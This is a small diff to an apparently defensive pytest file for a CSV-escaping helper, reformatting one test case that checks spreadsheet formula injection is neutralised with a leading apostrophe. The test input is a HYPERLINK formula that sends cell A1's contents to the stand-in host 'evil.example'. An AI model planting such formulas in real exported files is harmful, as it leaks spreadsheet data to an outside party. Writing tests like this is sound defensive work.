@@ -9,7 +9,10 @@ from pnyx.core import csvsafe
 @pytest.mark.parametrize(
     "cell, written",
     [
-        ('=HYPERLINK("http://evil.example/?"&A1,"clic")', '\'=HYPERLINK("http://evil.example/?"&A1,"clic")'),
+        (
+            '=HYPERLINK("http://evil.example/?"&A1,"clic")',
+            '\'=HYPERLINK("http://evil.example/?"&A1,"clic")',
+        ),
         ("+33 6 12", "'+33 6 12"),
         ("-2+3", "'-2+3"),
         ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
